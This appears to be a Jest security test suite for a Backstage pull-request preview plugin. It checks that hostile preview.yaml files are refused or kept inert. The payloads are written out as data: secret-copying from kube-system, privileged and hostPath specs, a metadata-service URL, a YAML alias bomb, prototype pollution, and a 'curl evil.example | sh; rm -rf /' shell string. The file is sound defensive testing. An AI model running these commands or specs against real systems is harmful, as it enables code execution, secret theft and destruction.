import { stringify } from 'yaml';
import { Preview } from '@backstage-previews/plugin-previews-common';
import { waitFor } from '../../../plugins/previews-backend/src/testUtils';
import {
  SecurityBackend,
  secComponent,
  signedDelivery,
  startSecurityBackend,
} from './securityBackend';
import { pullRequestEvent } from '../../github/webhookPayloads';
import { DEMO_IMAGE } from '../../cluster/testImages';

// Hostile `.backstage/preview.yaml` files at a pull request head, served by
// the loopback GitHub's contents API and read through Backstage's own GitHub
// UrlReader. Each goes the real webhook path (a signed `labeled` delivery)
// and the portal's create from that pull request. A file reaching outside its
// preview is refused with a 400 naming the field, nothing is created, and the
// pull request's sticky comment says why; the few that are allowed are
// rendered harmless (checked on the objects the real cluster holds).

jest.setTimeout(300_000);

const run = Date.now().toString(36);
const WEBHOOK_SECRET = `sec-files-webhook-${run}`;
const REPO = 'acme/sec-files';
const COMPONENT = 'component:default/sec-files';
const component = secComponent('sec-files', {
  'github.com/project-slug': REPO,
  'backstage.io/source-location': `url:https://github.test/${REPO}/tree/main/`,
});

const app = (extra: Record<string, unknown> = {}) => ({
  name: 'app',
  image: DEMO_IMAGE,
  port: 8080,
  ...extra,
});
const spec = (
  extra: Record<string, unknown> = {},
  workload: Record<string, unknown> = {},
) => stringify({ workloads: [app(workload)], ...extra });

interface RefusedCase {
  name: string;
  file: string;
  /** What the 400 (and the PR comment) must say: the field, and that it was this file. */
  message: RegExp;
}

const refused: RefusedCase[] = [
  {
    name: 'copyFrom kube-system',
    file: spec({
      secrets: [
        {
          name: 't',
          copyFrom: {
            namespace: 'kube-system',
            name: 'bootstrap-token-abcdef',
          },
        },
      ],
    }),
    message: /secrets may only be set in the catalog/,
  },
  {
    name: "copyFrom another preview's postgres",
    file: spec({
      secrets: [
        {
          name: 'db',
          copyFrom: { namespace: 'shop-main-0a1b2c3d', name: 'postgres' },
        },
      ],
    }),
    message: /secrets may only be set in the catalog/,
  },
  {
    name: 'engine override',
    file: spec({ engine: 'argocd' }),
    message: /engine may only be set in the catalog/,
  },
  {
    name: 'cluster override',
    file: spec({ cluster: 'production' }),
    message: /cluster may only be set in the catalog/,
  },
  {
    name: 'argocd.project: default',
    file: spec({ argocd: { project: 'default', path: 'deploy' } }),
    message: /argocd\.project may only be set in the catalog/,
  },
  {
    name: 'a foreign argocd.repoURL',
    file: spec({
      argocd: { repoURL: 'https://git.evil.example/x.git', path: 'deploy' },
    }),
    message: /argocd\.repoURL may only be set in the catalog/,
  },
  {
    name: 'a control-plane nodeSelector',
    file: spec({
      nodeSelector: { 'node-role.kubernetes.io/control-plane': '' },
    }),
    message:
      /nodeSelector node-role\.kubernetes\.io\/control-plane= is not a placement previews may choose/,
  },
  {
    name: 'tolerate every taint',
    file: spec({ tolerations: [{ operator: 'Exists' }] }),
    message:
      /tolerations\[0\] \{"operator":"Exists"\} is not a toleration previews may carry/,
  },
  {
    name: 'a 10 Ti PVC',
    file: spec({ databases: { postgres: { storage: '10Ti' } } }),
    message: /databases\.postgres\.storage 10Ti is more than the maximum/,
  },
  {
    name: 'hostNetwork',
    file: spec({}, { hostNetwork: true }),
    message: /workloads\[0\]\.hostNetwork is not a known field/,
  },
  {
    name: 'a privileged securityContext',
    file: spec({}, { securityContext: { privileged: true } }),
    message: /workloads\[0\]\.securityContext is not a known field/,
  },
  {
    name: 'runAsUser 0 (root)',
    file: spec({}, { runAsUser: 0 }),
    message: /workloads\[0\]\.runAsUser must be >= 1/,
  },
  {
    name: 'a hostPath volume',
    file: spec({ volumes: [{ name: 'root', hostPath: { path: '/' } }] }),
    message: /volumes is not a known field/,
  },
  {
    name: 'its own namespace: kube-system',
    file: spec({ namespace: 'kube-system' }),
    message: /namespace is not a known field/,
  },
  {
    name: 'a serviceAccountName',
    file: spec({}, { serviceAccountName: 'default' }),
    message: /workloads\[0\]\.serviceAccountName is not a known field/,
  },
  {
    name: 'a path-like workload name',
    file: spec({}, { name: '../../etc' }),
    message: /workloads\[0\]\.name must consist of/,
  },
  {
    name: 'a 64-character workload name',
    file: spec({}, { name: `a${'b'.repeat(63)}` }),
    message: /workloads\[0\]\.name must be at most/,
  },
  {
    name: '1000 replicas',
    file: spec({}, { replicas: 1000 }),
    message: /workloads\[0\]\.replicas must be <= 10/,
  },
  {
    name: 'port 70000',
    file: spec({}, { port: 70000 }),
    message: /workloads\[0\]\.port must be <= 65535/,
  },
  {
    name: 'an image with a newline',
    file: spec({}, { image: 'registry.local/demo:1\nkind: Pod' }),
    message: /workloads\[0\]\.image must be an image reference/,
  },
  {
    name: 'an env name with =',
    file: spec({}, { env: { 'A=B': 'x' } }),
    message: /workloads\[0\]\.env key "A=B"/,
  },
  {
    name: 'a cpu limit with shell text',
    file: spec({}, { resources: { limits: { cpu: '1; rm -rf /' } } }),
    message: /workloads\[0\]\.resources\.limits\.cpu must be a CPU quantity/,
  },
  {
    name: 'a readiness URL to the metadata service',
    file: spec(
      {},
      { readinessPath: 'http://169.254.169.254/latest/meta-data/' },
    ),
    message: /workloads\[0\]\.readinessPath must be an HTTP path/,
  },
  {
    name: 'expose a workload it does not have',
    file: spec({ expose: 'kube-dns' }),
    message: /expose must name a workload/,
  },
  {
    name: 'an ingress host of its own',
    file: spec({ ingress: { host: 'portal.example.com' } }),
    message: /ingress is not a known field/,
  },
  {
    name: 'a YAML alias bomb',
    file: `a: &a [x,x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b,*b]\nd: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c,*c]\ne: [*d,*d,*d,*d,*d,*d,*d,*d,*d,*d]\n`,
    message: /Excessive alias count/,
  },
  {
    name: 'a list instead of a spec',
    file: stringify([app()]),
    message: /spec must be an object/,
  },
  {
    name: 'broken YAML',
    file: 'workloads: [ { name: app, image: "x\n',
    message: /not valid YAML or JSON/,
  },
  {
    name: 'a file over the size limit',
    file: `${spec()}\n# ${'x'.repeat(300_000)}\n`,
    message: /larger than/,
  },
  {
    name: 'no workloads at all',
    file: stringify({ workloads: [] }),
    message: /workloads must have at least 1 item/,
  },
  {
    name: '__proto__ at the top',
    file: `__proto__:\n  polluted: true\n${spec()}`,
    message: /__proto__ is not a known field/,
  },
];

interface HarmlessCase {
  name: string;
  file: string;
  /** Checks the preview's objects on the cluster. */
  check: (
    preview: Preview,
    objects: {
      env: Record<string, string>;
      command?: string[];
      args?: string[];
      envOf: (name: string) => string | undefined;
    },
  ) => void;
}

const SHELL = '$(curl http://evil.example/x | sh); `id` && rm -rf / || true';
const YAML_TEXT =
  'key: value\n- item\n&anchor *ref !!python/object:os.system {}';
const harmless: HarmlessCase[] = [
  {
    name: 'a dependency on another team’s component wires nothing',
    file: spec({ dependencies: { 'payments-db': { env: 'PAYMENTS_URL' } } }),
    check: (preview, o) => {
      expect(preview.dependencies ?? []).toEqual([]);
      expect(o.envOf('PAYMENTS_URL')).toBeUndefined();
    },
  },
  {
    name: 'env values with shell metacharacters stay data',
    file: spec({}, { env: { HOOK: SHELL } }),
    check: (_preview, o) => {
      expect(o.env.HOOK).toBe(SHELL);
      // the container runs its image's own entrypoint: nothing of the value reaches a command line
      expect(o.command).toBeUndefined();
      expect(o.args).toBeUndefined();
    },
  },
  {
    name: 'env values with YAML metacharacters stay data',
    file: spec({}, { env: { NOTE: YAML_TEXT } }),
    check: (_preview, o) => {
      expect(o.env.NOTE).toBe(YAML_TEXT);
      expect(Object.keys(o.env)).not.toContain('key');
    },
  },
];

describe('hostile .backstage/preview.yaml files at a pull request head', () => {
  let sec: SecurityBackend;
  let prNumber = 700;

  beforeAll(async () => {
    sec = await startSecurityBackend({
      entities: [component],
      webhookSecret: WEBHOOK_SECRET,
      githubToken: `sec-files-token-${run}`,
      kubernetes: {
        secretSources: [{ namespace: 'previews-shared', names: ['regcred'] }],
      },
    });
  });

  afterAll(async () => {
    await sec?.stop();
  });

  /** A pull request whose head holds `file` as its spec; returns its number and head. */
  function pullRequestWith(file: string) {
    const n = ++prNumber;
    const sha = `${run}${n}`
      .padEnd(40, '0')
      .replace(/[^0-9a-f]/g, 'e')
      .slice(0, 40);
    const ref = `sec-files-${run}-${n}`;
    sec.github.addPull(REPO, {
      number: n,
      title: `Hostile ${n}`,
      head: { ref, sha, repoFullName: REPO },
      base: { ref: 'main' },
      labels: ['preview'],
    });
    sec.github.setFile(REPO, sha, '.backstage/preview.yaml', file);
    return { n, sha, ref };
  }

  /** Sends the signed `labeled` delivery GitHub would send for the pull request. */
  async function label(pr: { n: number; sha: string; ref: string }) {
    const payload = pullRequestEvent(
      'labeled',
      sec.github.pullJson(REPO, sec.github.repo(REPO).pulls.get(pr.n)!),
      { label: 'preview' },
    );
    const { body, headers } = signedDelivery(
      'pull_request',
      payload,
      WEBHOOK_SECRET,
      `sec-files-${run}-${pr.n}`,
    );
    const res = await sec
      .api()
      .post('/api/events/http/github')
      .set(headers)
      .send(body);
    expect(res.status).toBe(202);
  }

  async function previewRows() {
    return sec.knex('previews').where({ entity_ref: COMPONENT });
  }

  it(`serves at least 30 hostile files (${refused.length} refused, ${harmless.length} harmless)`, () => {
    expect(refused.length + harmless.length).toBeGreaterThanOrEqual(30);
  });

  it.each(refused.map(c => [c.name, c] as const))(
    'refuses %s (webhook and portal), creating nothing',
    async (_, c) => {
      const rowsBefore = (await previewRows()).length;
      const pr = pullRequestWith(c.file);

      await label(pr);
      const refusal = await waitFor(
        `the refusal of #${pr.n}`,
        () =>
          sec.logs
            .text()
            .split('\n')
            .find(l => l.includes(`${REPO}#${pr.n} was refused`)),
        30_000,
      ).catch(e => {
        throw new Error(
          `${e.message}; the log ends with:\n${sec.logs
            .text()
            .split('\n')
            .slice(-15)
            .join('\n')}`,
        );
      });
      expect(refusal).toMatch(c.message);
      expect(refusal).toContain('.backstage/preview.yaml');
      // The pull request is told why, in the bot's own comment.
      const comment = await waitFor(`the refusal comment on #${pr.n}`, () =>
        sec.github
          .comments(REPO, pr.n)
          .find(
            x => x.user.login === 'previews-bot' && x.body.includes('refused'),
          ),
      );
      expect(comment.body).toContain('### sec-files');
      // and names the field, as the 400 does (the comment shows it as text: markdown backslash-escaped, < and > as entities)
      const shown = comment.body
        .replace(/\\(.)/g, '$1')
        .replace(/&lt;/g, '<')
        .replace(/&gt;/g, '>');
      expect(shown).toMatch(c.message);

      // The portal's create from the same pull request: a 400 naming the field.
      const res = await sec
        .api()
        .post('/api/previews/previews')
        .send({ entityRef: COMPONENT, pullRequest: pr.n });
      expect({ status: res.status, message: res.body?.error?.message }).toEqual(
        {
          status: 400,
          message: expect.stringMatching(c.message),
        },
      );
      expect(res.body.error.message).toContain('.backstage/preview.yaml');

      expect((await previewRows()).length).toBe(rowsBefore);
      expect(await sec.namespaces('sec-files')).toEqual([]);
    },
  );

  it.each(harmless.map(c => [c.name, c] as const))('%s', async (_, c) => {
    const pr = pullRequestWith(c.file);
    await label(pr);
    const row = await waitFor(`the preview of #${pr.n}`, async () =>
      (
        await previewRows()
      ).find(r => r.branch === pr.ref && r.status !== 'destroyed'),
    );
    const preview = (await sec.api().get(`/api/previews/previews/${row.id}`))
      .body as Preview;
    try {
      const core = sec.kc.makeApiClient(sec.k8s.CoreV1Api);
      const apps = sec.kc.makeApiClient(sec.k8s.AppsV1Api);
      const deployment = await waitFor('its Deployment to be applied', () =>
        apps
          .readNamespacedDeployment({ name: 'app', namespace: preview.name })
          .catch(() => undefined),
      );
      const container = deployment.spec!.template.spec!.containers[0];
      const configMap = await core.readNamespacedConfigMap({
        name: 'app-env',
        namespace: preview.name,
      });
      c.check(preview, {
        env: configMap.data ?? {},
        command: container.command,
        args: container.args,
        envOf: name =>
          container.env?.find(e => e.name === name)?.value ??
          configMap.data?.[name],
      });
      // Nothing of it outside its own namespace.
      const everywhere = await core.listNamespace({
        labelSelector: `app.kubernetes.io/instance=${preview.id}`,
      });
      expect(everywhere.items.map(ns => ns.metadata?.name)).toEqual([
        preview.name,
      ]);
    } finally {
      expect(
        (await sec.api().delete(`/api/previews/previews/${preview.id}`)).status,
      ).toBe(202);
      await waitFor('the preview to be destroyed', async () => {
        const p = (await sec.api().get(`/api/previews/previews/${preview.id}`))
          .body as Preview;
        return p.status === 'destroyed';
      });
    }
  });
});
